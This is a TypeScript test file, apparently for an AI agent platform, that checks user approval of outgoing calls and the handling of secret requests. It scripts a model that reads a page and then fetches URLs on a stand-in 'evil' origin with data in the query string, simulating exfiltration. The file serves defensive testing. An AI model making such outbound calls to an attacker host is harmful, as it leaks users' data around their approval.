import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startHostileApp } from '../approvals/hostile-app.ts';
import type { HostileApp, ToolStep } from '../approvals/hostile-app.ts';

let hostile: HostileApp;

before(async () => {
  hostile = await startHostileApp();
  await hostile.client.createAgent({ name: 'Mika' });
});
after(() => hostile?.stop());

const read = (url: string): ToolStep => ({ name: 'source_summary', input: { query: 'tea', urls: [url] } });
const show: ToolStep = {
  name: 'skill',
  input: { query: 'show it', skill: 'vault', script: 'scripts/show.py' },
};
const question = () => ({ modelName: 'compatible/m1', inputText: `Read ${hostile.site.origin}/page` });

test('a call that lets something out is decided by the handler', async () => {
  const outside = (word: string) => read(`${hostile.evil.origin}/?q=${word}`);
  hostile.modelDoes([read(`${hostile.site.origin}/page`), outside('yes'), outside('no')]);
  const asked: string[] = [];
  const { status } = await hostile.client.runAndReview(question(), {
    onApproval({ summary }) {
      asked.push(summary);
      return summary.includes('yes') ? 'once' : 'deny';
    },
  });
  assert.equal(status, 'completed');
  assert.equal(asked.length, 2);
  assert.deepEqual(hostile.evil.seen, ['GET /?q=yes']);
});

test('without a handler nobody is asked, and nothing goes out', async () => {
  hostile.modelDoes([read(`${hostile.site.origin}/page`), read(`${hostile.evil.origin}/?q=quiet`)]);
  const { status, text } = await hostile.client.runAndReview(question());
  assert.equal(status, 'completed');
  assert.match(text, /Not done/);
  assert.deepEqual(hostile.evil.seen, []);
});

test('a secret that a skill lacks is asked for once, and registered', async () => {
  hostile.modelDoes([show]);
  const asked: string[][] = [];
  const { status } = await hostile.client.runAndReview(
    { modelName: 'compatible/m1', inputText: 'Show the vault' },
    {
      onSecret({ keys }) {
        asked.push(keys);
        return { VAULT_KEY: 'open sesame', OTHER: 'not asked for' };
      },
    },
  );
  assert.equal(status, 'completed');
  assert.deepEqual(asked, [['VAULT_KEY']]);
  const { secrets } = await hostile.client.listSecrets();
  assert.deepEqual(
    secrets.map(({ key }) => key),
    ['VAULT_KEY'],
  );
});

test('what a handler throws ends the waiting', async () => {
  hostile.modelDoes([read(`${hostile.site.origin}/page`), read(`${hostile.evil.origin}/?q=throw`)]);
  const running = hostile.client.runAndReview(question(), {
    onApproval() {
      throw new Error('nobody is in');
    },
  });
  await assert.rejects(running, /nobody is in/);
});
